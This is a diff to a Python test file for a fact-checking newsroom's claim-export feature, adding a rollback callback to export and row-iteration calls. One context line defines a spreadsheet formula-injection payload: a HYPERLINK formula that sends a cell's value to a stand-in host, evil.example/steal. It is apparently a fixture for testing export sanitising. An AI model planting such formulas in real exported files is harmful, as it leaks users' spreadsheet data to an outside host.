@@ -31,7 +31,7 @@ EVIL = '=HYPERLINK("https://evil.example/steal?d="&A1,"Port figures")'
 
 def _export(session, user, fmt, filters=None, **options):
     job = exports.start_export(session, user, fmt, filters or ExportFilters(), SETTINGS,
-                               **options)
+                               end_read=session.rollback, **options)
     session.commit()
     return job, "".join(job.chunks)
 
@@ -75,7 +75,8 @@ def test_filters_by_rating_outlet_source_date_and_status(session, desk):
             published_at=datetime(2025, 6, 1, tzinfo=UTC))
 
     def claims(**filters):
-        return [row.claim_text for row in iter_rows(session, ExportFilters(**filters))]
+        return [row.claim_text for row in iter_rows(session, ExportFilters(**filters),
+                                                          end_read=session.rollback)]
 
     assert claims() == ["Cargo fell by half", "Wages rose 3%", "The strike cost 40m"]
     assert claims(rating=TruthRating.TRUE) == ["Wages rose 3%"]
@@ -92,7 +93,8 @@ def test_filters_by_rating_outlet_source_date_and_status(session, desk):
 def test_unknown_source_is_a_clear_error_and_nothing_is_recorded(session, desk):
     with pytest.raises(ValidationFailed, match="No source called"):
         exports.start_export(session, desk, ExportFormat.CSV,
-                             ExportFilters(source_name="Nobody Weekly"), SETTINGS)
+                             ExportFilters(source_name="Nobody Weekly"), SETTINGS,
+                             end_read=session.rollback)
     session.rollback()
     assert session.scalar(sa.select(sa.func.count()).select_from(AuditEvent)
                           .where(AuditEvent.action == "export_created")) == 0
@@ -101,7 +103,7 @@ def test_unknown_source_is_a_clear_error_and_nothing_is_recorded(session, desk):
 def test_checker_may_not_export(session, checker):
     with pytest.raises(PermissionDenied):
         exports.start_export(session, session.get(User, checker.id), ExportFormat.CSV,
-                             ExportFilters(), SETTINGS)
+                             ExportFilters(), SETTINGS, end_read=session.rollback)
 
 
 def test_rows_stream_across_batches_in_claim_order(session, desk):
@@ -109,7 +111,7 @@ def test_rows_stream_across_batches_in_claim_order(session, desk):
     _, claims = make_article(session, desk.id, texts)
     for claim in claims:
         publish(session, claim, desk.id, TruthRating.TRUE)
-    rows = list(iter_rows(session, ExportFilters(), batch_size=2))
+    rows = list(iter_rows(session, ExportFilters(), end_read=session.rollback, batch_size=2))
     assert [row.claim_text for row in rows] == texts
 
 
@@ -118,7 +120,7 @@ def test_current_verdict_wins_and_correction_dates_the_change(session, desk):
     publish(session, claim, desk.id, TruthRating.FALSE,
             published_at=datetime(2025, 4, 2, 8, tzinfo=UTC),
             correction="Customs data arrived and contradicted the port's estimate.")
-    (row,) = iter_rows(session, ExportFilters())
+    (row,) = iter_rows(session, ExportFilters(), end_read=session.rollback)
     assert row.rating is TruthRating.FALSE
     assert row.modified_at == datetime(2025, 4, 2, 8, tzinfo=UTC)
 
@@ -195,7 +197,8 @@ def test_narrow_exports_read_through_an_index_and_agree_with_a_full_scan(
              ExportFilters(date_from=date(2025, 8, 1), date_to=date(2025, 9, 30))]
 
     def ids(filters):
-        return [row.claim_id for row in iter_rows(session, filters, batch_size=2)]
+        return [row.claim_id for row in iter_rows(session, filters, batch_size=2,
+                                                  end_read=session.rollback)]
 
     narrow = [ids(filters) for filters in cases]
     assert [exports_query.count_rows(session, filters) for filters in cases] == [
@@ -222,7 +225,8 @@ def test_a_narrow_export_near_the_candidate_cap_loses_no_claim(session, desk, mo
     wanted = [claim.id for claim in claims]
     monkeypatch.setattr(exports_query, "MAX_CANDIDATES", len(claims))
     for filters in (ExportFilters(source_id=gazette), ExportFilters(date_to=date(2025, 12, 31))):
-        assert [row.claim_id for row in iter_rows(session, filters, batch_size=3)] == wanted
+        assert [row.claim_id for row in iter_rows(session, filters, batch_size=3,
+                                                  end_read=session.rollback)] == wanted
 
 
 def test_packed_chains_unfold_in_order_even_with_odd_names():
